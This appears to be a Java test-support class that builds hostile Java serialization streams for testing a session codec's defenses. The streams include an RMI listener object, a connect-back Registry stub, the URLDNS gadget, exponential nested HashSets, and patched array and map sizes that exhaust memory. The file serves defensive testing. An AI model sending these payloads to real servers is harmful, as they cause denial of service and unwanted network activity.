package dev.serversessions.internal.codec;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.ObjectStreamClass;
import java.io.ObjectStreamConstants;
import java.io.UncheckedIOException;
import java.lang.reflect.Proxy;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.AccessException;
import java.rmi.Remote;
import java.rmi.RemoteException;
import java.rmi.registry.Registry;
import java.rmi.server.RMIServerSocketFactory;
import java.rmi.server.RemoteObject;
import java.rmi.server.RemoteServer;
import java.rmi.server.UnicastRemoteObject;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Function;

/**
 * Java serialization streams a store writer could put where a session attribute belongs, made
 * only of classes every server has (the JDK's, and, for {@link #brokenOnLoad(String)}, a class the
 * caller names), so that each one does its harm wherever nothing refuses it. One home for the
 * codec's unit test and the integration tests (which take it from this module's test-jar), so both
 * throw the same bytes.
 */
public final class HostileJavaBytes {
    private HostileJavaBytes() {
    }

    /**
     * Every payload made of JDK classes only, by what it would do.
     *
     * @param listenPort the port the remote object would be re-exported (listen) on
     * @param watchPort  a loopback port the stub and the URL would make the server connect to
     */
    public static Map<String, byte[]> all(int listenPort, int watchPort) {
        Map<String, byte[]> payloads = new LinkedHashMap<>();
        payloads.put("UnicastRemoteObject (listens)", remoteObject(listenPort));
        payloads.put("RemoteObjectInvocationHandler proxy (connects)", remoteStub(watchPort));
        payloads.put("URL as a map key (resolves, connects)", urlKey(watchPort));
        payloads.put("nested HashSets (2^100 hash calls)", nestedSets(100));
        payloads.put("chained nested HashSets within any depth limit (2^36 hash calls)", chainedSets(3, 12));
        payloads.put("int[] of length 2^31-1 (OutOfMemoryError)", arrayLength(Integer.MAX_VALUE));
        payloads.put("HashMap of 2^30 mappings (OutOfMemoryError)", hugeMap());
        payloads.put("list that holds itself in a set (StackOverflowError)", selfHashing());
        return payloads;
    }

    /**
     * {@link #all(int, int)} and an instance of {@code brokenOnLoadClass}, a class of the reading
     * application whose static initializer throws.
     */
    public static Map<String, byte[]> all(int listenPort, int watchPort, String brokenOnLoadClass) {
        Map<String, byte[]> payloads = all(listenPort, watchPort);
        payloads.put("class whose static initializer fails (LinkageError)", brokenOnLoad(brokenOnLoadClass));
        return payloads;
    }

    /**
     * A bare {@code java.rmi.server.UnicastRemoteObject}: reading it runs {@code reexport()},
     * which listens on {@code port}. Written by hand because constructing one exports it.
     */
    public static byte[] remoteObject(int port) {
        return stream(out -> {
            out.writeByte(ObjectStreamConstants.TC_OBJECT);
            out.writeByte(ObjectStreamConstants.TC_CLASSDESC);
            out.writeUTF(UnicastRemoteObject.class.getName());
            out.writeLong(suid(UnicastRemoteObject.class));
            out.writeByte(ObjectStreamConstants.SC_SERIALIZABLE);
            out.writeShort(3); // primitive fields first, then objects, each sorted by name
            out.writeByte('I');
            out.writeUTF("port");
            out.writeByte('L');
            out.writeUTF("csf");
            typeString(out, "Ljava/rmi/server/RMIClientSocketFactory;");
            out.writeByte('L');
            out.writeUTF("ssf");
            typeString(out, "Ljava/rmi/server/RMIServerSocketFactory;");
            out.writeByte(ObjectStreamConstants.TC_ENDBLOCKDATA);
            out.writeByte(ObjectStreamConstants.TC_CLASSDESC);
            out.writeUTF(RemoteServer.class.getName());
            out.writeLong(suid(RemoteServer.class));
            out.writeByte(ObjectStreamConstants.SC_SERIALIZABLE);
            out.writeShort(0);
            out.writeByte(ObjectStreamConstants.TC_ENDBLOCKDATA);
            out.writeByte(ObjectStreamConstants.TC_CLASSDESC);
            out.writeUTF(RemoteObject.class.getName());
            out.writeLong(suid(RemoteObject.class));
            out.writeByte(ObjectStreamConstants.SC_SERIALIZABLE | ObjectStreamConstants.SC_WRITE_METHOD);
            out.writeShort(0);
            out.writeByte(ObjectStreamConstants.TC_ENDBLOCKDATA);
            out.writeByte(ObjectStreamConstants.TC_NULL); // no further superclass
            // RemoteObject's own data: an empty ref class name, then the ref itself: null
            out.writeByte(ObjectStreamConstants.TC_BLOCKDATA);
            out.writeByte(2);
            out.writeUTF("");
            out.writeByte(ObjectStreamConstants.TC_NULL);
            out.writeByte(ObjectStreamConstants.TC_ENDBLOCKDATA);
            // UnicastRemoteObject's fields: port, csf, ssf
            out.writeInt(port);
            out.writeByte(ObjectStreamConstants.TC_NULL);
            out.writeByte(ObjectStreamConstants.TC_NULL);
        });
    }

    /**
     * A {@code Registry} stub: a proxy over {@code RemoteObjectInvocationHandler} whose
     * reference points at 127.0.0.1:{@code port}; reading it makes the RMI runtime call there.
     * Taken from a real export on that port, closed again before the port is watched.
     */
    public static byte[] remoteStub(int port) {
        return fromStub(port, HostileJavaBytes::serialize);
    }

    /**
     * {@link #remoteStub(int)} and its invocation handler on its own (without the proxy
     * around it; reading it makes the same call), from one export: a
     * second export right after the first may find the port still held by the first's listener.
     */
    public static byte[][] remoteStubAndInvocationHandler(int port) {
        return fromStub(port, stub -> new byte[][] {serialize(stub), serialize(Proxy.getInvocationHandler(stub))});
    }

    private static <T> T fromStub(int port, Function<Remote, T> part) {
        String hostProperty = System.setProperty("java.rmi.server.hostname", "127.0.0.1");
        Remote exported = new StubSource();
        Remote stub;
        try {
            stub = UnicastRemoteObject.exportObject(exported, port, null, new LoopbackSockets());
        } catch (RemoteException e) {
            throw new IllegalStateException(e);
        } finally {
            if (hostProperty == null) {
                System.clearProperty("java.rmi.server.hostname");
            } else {
                System.setProperty("java.rmi.server.hostname", hostProperty);
            }
        }
        try {
            if (!Proxy.isProxyClass(stub.getClass())) {
                throw new IllegalStateException("expected a dynamic proxy stub, got " + stub.getClass());
            }
            return part.apply(stub);
        } finally {
            try {
                UnicastRemoteObject.unexportObject(exported, true);
            } catch (RemoteException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    /**
     * Listens on loopback {@code port} as soon as the export that made the stub has let it go.
     */
    public static ServerSocket watch(int port) {
        for (int attempt = 0; ; attempt++) {
            try {
                return new ServerSocket(port, 50, InetAddress.getLoopbackAddress());
            } catch (IOException e) {
                if (attempt == 100) {
                    throw new UncheckedIOException("port " + port + " stayed busy", e);
                }
                try {
                    Thread.sleep(50);
                } catch (InterruptedException interrupted) {
                    Thread.currentThread().interrupt();
                    throw new IllegalStateException(interrupted);
                }
            }
        }
    }

    /** URLDNS: hashing the key resolves its host. */
    public static byte[] urlKey(int port) {
        try {
            return serialize(new HashMap<>(Map.of(new URL("http://127.0.0.1:" + port + "/"), "x")));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Each level's two sets both hold the next level's two: 2^levels hashCode calls to read. */
    public static byte[] nestedSets(int levels) {
        Set<Object> root = new HashSet<>();
        fillSharedSets(root, levels, "x");
        return serialize(root);
    }

    /**
     * {@code count} chains of {@code levels} shared sets, the deepest sets of each holding the
     * previous chain: 2^(count × levels) hashCode calls, at a depth of only {@code levels}.
     * Built outermost first, so that building it here hashes only sets that are still empty.
     */
    public static byte[] chainedSets(int count, int levels) {
        List<Set<Object>> chains = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            chains.add(new HashSet<>());
        }
        for (int i = count - 1; i >= 0; i--) {
            fillSharedSets(chains.get(i), levels, i == 0 ? "x" : chains.get(i - 1));
        }
        return serialize(new ArrayList<>(chains));
    }

    private static void fillSharedSets(Set<Object> top, int levels, Object tail) {
        Set<Object> left = top;
        Set<Object> right = new HashSet<>();
        for (int i = 0; i < levels; i++) {
            Set<Object> a = new HashSet<>();
            Set<Object> b = new HashSet<>();
            a.add("x");
            left.add(a);
            left.add(b);
            right.add(a);
            right.add(b);
            left = a;
            right = b;
        }
        left.add(tail);
        right.add(tail);
    }

    /** An {@code int[1]} whose length field is patched: the stream ends with length, element. */
    public static byte[] arrayLength(int length) {
        return withArrayLength(serialize(new int[] {7}), 4, length);
    }

    /** A {@code String[] {null}} whose length field is patched: the element is one TC_NULL byte. */
    public static byte[] objectArrayLength(int length) {
        return withArrayLength(serialize(new String[] {null}), 1, length);
    }

    private static byte[] withArrayLength(byte[] oneElementArray, int elementBytes, int length) {
        byte[] bytes = oneElementArray.clone();
        int at = bytes.length - elementBytes - 4;
        if (((bytes[at] << 24) | (bytes[at + 1] << 16) | (bytes[at + 2] << 8) | bytes[at + 3]) != 1) {
            throw new IllegalStateException("no length field of 1 where expected");
        }
        bytes[at] = (byte) (length >>> 24);
        bytes[at + 1] = (byte) (length >>> 16);
        bytes[at + 2] = (byte) (length >>> 8);
        bytes[at + 3] = (byte) length;
        return bytes;
    }

    /** A one-entry HashMap whose size says 2^30: its table would be allocated from that. */
    public static byte[] hugeMap() {
        byte[] bytes = serialize(new HashMap<>(Map.of("k", "v")));
        for (int i = 0; i + 4 < bytes.length; i++) {
            if (bytes[i] == 0 && bytes[i + 1] == 0 && bytes[i + 2] == 0 && bytes[i + 3] == 1
                    && bytes[i + 4] == ObjectStreamConstants.TC_STRING) {
                bytes[i] = 0x40;
                return bytes;
            }
        }
        throw new IllegalStateException("no size field found");
    }

    /** Reading hashes a list that contains itself: unbounded recursion. */
    public static byte[] selfHashing() {
        List<Object> list = new ArrayList<>();
        Set<Object> set = new HashSet<>();
        set.add(list);
        list.add(list);
        return serialize(set);
    }

    /**
     * An instance of {@code className}, a serializable class with no fields and serialVersionUID 1
     * whose static initializer throws (the test WAR's {@code BrokenOnLoad}), written by hand so
     * that the writer need not load it.
     */
    public static byte[] brokenOnLoad(String className) {
        return stream(out -> {
            out.writeByte(ObjectStreamConstants.TC_OBJECT);
            out.writeByte(ObjectStreamConstants.TC_CLASSDESC);
            out.writeUTF(className);
            out.writeLong(1L);
            out.writeByte(ObjectStreamConstants.SC_SERIALIZABLE);
            out.writeShort(0);
            out.writeByte(ObjectStreamConstants.TC_ENDBLOCKDATA);
            out.writeByte(ObjectStreamConstants.TC_NULL);
        });
    }

    /** Listening TCP ports of this machine, from the kernel's tables (state 0A is LISTEN). */
    public static Set<Integer> listeningPorts() {
        Set<Integer> ports = new HashSet<>();
        for (String table : List.of("/proc/net/tcp", "/proc/net/tcp6")) {
            try {
                for (String line : Files.readAllLines(Path.of(table))) {
                    String[] fields = line.trim().split("\\s+");
                    if (fields.length > 3 && "0A".equals(fields[3])) {
                        String local = fields[1];
                        ports.add(Integer.parseInt(local.substring(local.lastIndexOf(':') + 1), 16));
                    }
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return ports;
    }

    private interface Writer {
        void write(DataOutputStream out) throws IOException;
    }

    private static byte[] stream(Writer writer) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(bytes)) {
            out.writeShort(ObjectStreamConstants.STREAM_MAGIC);
            out.writeShort(ObjectStreamConstants.STREAM_VERSION);
            writer.write(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static void typeString(DataOutputStream out, String signature) throws IOException {
        out.writeByte(ObjectStreamConstants.TC_STRING);
        out.writeUTF(signature);
    }

    private static long suid(Class<?> type) {
        return ObjectStreamClass.lookup(type).getSerialVersionUID();
    }

    public static byte[] serialize(Object value) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(value);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** The export that yields the stub listens on loopback only, and only for a moment. */
    private static final class LoopbackSockets implements RMIServerSocketFactory {
        @Override
        public ServerSocket createServerSocket(int port) throws IOException {
            return new ServerSocket(port, 50, InetAddress.getLoopbackAddress());
        }
    }

    /** A JDK remote interface, so the stub's proxy resolves on every server. */
    private static final class StubSource implements Registry {
        @Override
        public Remote lookup(String name) throws AccessException {
            throw new AccessException("not a registry");
        }

        @Override
        public void bind(String name, Remote obj) throws AccessException {
            throw new AccessException("not a registry");
        }

        @Override
        public void unbind(String name) throws AccessException {
            throw new AccessException("not a registry");
        }

        @Override
        public void rebind(String name, Remote obj) throws AccessException {
            throw new AccessException("not a registry");
        }

        @Override
        public String[] list() throws AccessException {
            throw new AccessException("not a registry");
        }
    }
}
